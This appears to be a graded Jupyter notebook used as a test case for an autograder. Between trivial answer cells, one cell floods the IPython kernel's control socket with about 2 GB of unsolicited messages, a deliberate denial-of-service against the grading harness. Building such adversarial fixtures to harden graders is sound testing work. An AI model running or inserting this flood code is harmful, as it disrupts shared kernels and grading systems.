# %% [markdown]
# ---
# what: "Sends gigabytes on the channel for requests that nobody makes"
# status: graded
# marks: 4
# ---

# %%
answer = 42

# %%
grader.check("q1")

# %%
import time

import zmq
from ipykernel.kernelapp import IPKernelApp

control = IPKernelApp.instance().control_socket
session = get_ipython().kernel.get_parent("shell")["header"]["session"].encode()
for _ in range(40):
    try:
        control.send_multipart([session, bytes(50 << 20)], flags=zmq.NOBLOCK)
    except zmq.ZMQError:
        time.sleep(0.05)

# %%
word = "level"

# %%
grader.check("q3")
